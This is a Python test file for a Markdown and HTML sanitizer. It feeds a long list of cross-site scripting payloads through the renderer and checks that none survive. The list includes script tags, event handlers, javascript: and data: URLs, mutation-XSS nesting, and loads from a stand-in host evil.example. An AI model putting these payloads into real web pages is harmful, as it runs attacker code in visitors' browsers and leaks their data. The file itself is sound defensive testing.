"""Hostile text comes out dead, whether it comes as Markdown or as raw HTML."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from followup.render.clean import clean
from followup.render.markdown import to_html

HARMLESS_TAGS = """
    a abbr b blockquote br caption cite code col colgroup dd del details div dl dt em figcaption figure h2 h3 h4 h5 h6
    hr i img ins kbd li mark ol p pre q s small span strong sub summary sup table tbody td tfoot th thead time tr u ul
"""
HARMLESS_ATTRIBUTES = """
    alt aria-label class colspan datetime height href id lang open role rowspan scope src start tabindex title width
"""
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    "<img src=//evil.example/pixel.gif>",
    '<img src="/\\evil.example/pixel.gif">',
    "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
    "<img srcset='https://evil.example/x 1x'>",
    "![x](https://evil.example/pixel.gif)",
    '![x](javascript:alert(1) "x")',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='  java\nscript:alert(1)'>x</a>",
    "<a href=&#106;avascript&colon;alert(1)>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=./javascript:alert(1).md>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=blob:https://x/y>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](./javascript:alert(1).md)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<form action=https://evil.example><input name=a><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
    "x\n{: onclick=alert(1) style=color:red }",
    "[x](a.html){: onmouseover=alert(1) target=_blank }",
    "# x {: onclick=alert(1) data-toc-label='<img src=x onerror=alert(1)>' }",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x></audio>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><title></title><plaintext><script>alert(1)</script>",
    "<!--<img src=--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><? <script>alert(1)</script> ?>",
    "<body onload=alert(1)><html onclick=alert(1)><head><frameset onload=alert(1)>",
    '```html" onmouseover=alert(1) x="\n<script>alert(1)</script>\n```',
    '*[x]: "><img src=x onerror=alert(1)>\n\nx',
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    '!!! x "<img src=x onerror=alert(1)>"\n    a',
    '<div markdown="1" onclick=alert(1)>\n<script>alert(1)</script>\n</div>',
    "<a title='<img src=x onerror=alert(1)>'>x</a>",
    "<isindex action=javascript:alert(1)><marquee onstart=alert(1)>x</marquee>",
    "<a href=x id='\"><img src=x onerror=alert(1)>'>x</a>",
    "<input autofocus onfocus=alert(1)><select onfocus=alert(1)><option>x</select>",
    "<div tabindex=5 role=alert contenteditable draggable=true>x</div>",
]


class Living(HTMLParser):
    """Collects whatever in a page could act, call out or deceive."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in HARMLESS_TAGS.split():
            self.found.append(tag)
        for name, value in attrs:
            if name not in HARMLESS_ATTRIBUTES.split():
                self.found.append(f"{tag}[{name}]")
            if name in {"href", "src"} and not is_harmless(name, value or ""):
                self.found.append(f"{tag}[{name}={value}]")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}>")


def is_harmless(name: str, value: str) -> bool:
    as_browsers_see_it = re.sub(r"[\x00-\x20]", "", value).replace("\\", "/")
    scheme, host = urlsplit(as_browsers_see_it)[:2]
    if name == "src":
        return not scheme and not host
    return scheme in {"", "http", "https", "mailto", "tel"}


def living(html: str) -> list[str]:
    reader = Living()
    reader.feed(html)
    reader.close()
    return reader.found


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_dead(text: str) -> None:
    for whole in (text, f"Trước {text} sau", f"> {text}", f"- {text}\n\n| a |\n|---|\n| {text} |"):
        assert living(to_html(whole)) == []
        assert living(to_html(whole, base="../huong-dan", id_prefix="a-")) == []
        assert living(clean(whole)[0]) == []


def test_the_judge_of_these_tests_knows_what_lives() -> None:
    alive = [text for text in HOSTILE if text.startswith("<") and living(text)]

    assert len(alive) > 40


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.sampled_from([piece for text in HOSTILE for piece in re.split(r"(?<=[ =>'\"])", text)]), max_size=12)
)
def test_no_patchwork_of_hostile_pieces_lives(pieces: list[str]) -> None:
    assert living(to_html("".join(pieces), base="..")) == []


@pytest.mark.parametrize(
    ("html", "cleaned"),
    [
        ('<p class="x admonition-title y">a</p>', '<p class="admonition-title">a</p>'),
        ('<p class="x">a</p>', "<p>a</p>"),
        ('<div role="group" tabindex="0">a</div>', '<div role="group" tabindex="0">a</div>'),
        ('<div role="alert" tabindex="3">a</div>', "<div>a</div>"),
        ('<span lang="fr">a</span>', '<span lang="fr">a</span>'),
        ('<p id="mục-1">a</p><p id="a b">b</p>', '<p id="mục-1">a</p><p>b</p>'),
        ("<h1>a</h1>", "a"),
        ("a &lt;b&gt; &amp; c", "a &lt;b&gt; &amp; c"),
        ('<img alt="x" src="../anh/a.png">', '<img alt="x" src="../anh/a.png">'),
        ("<b>không đóng", "<b>không đóng</b>"),
    ],
)
def test_what_is_harmless_stays_and_the_rest_goes(html: str, cleaned: str) -> None:
    assert clean(html)[0] == cleaned


def test_the_ids_are_told_in_their_order() -> None:
    assert clean('<p id="b">x</p><p id="a">y</p><a href="#a">z</a>', id_prefix="k-") == (
        '<p id="k-b">x</p><p id="k-a">y</p><a href="#k-a">z</a>',
        ("k-b", "k-a"),
    )


@given(st.text(st.sampled_from("<>/\"'=&;abp ihref#:.-đ\n")))
def test_cleaning_twice_changes_nothing(html: str) -> None:
    once, ids = clean(html)

    assert clean(once) == (once, ids)
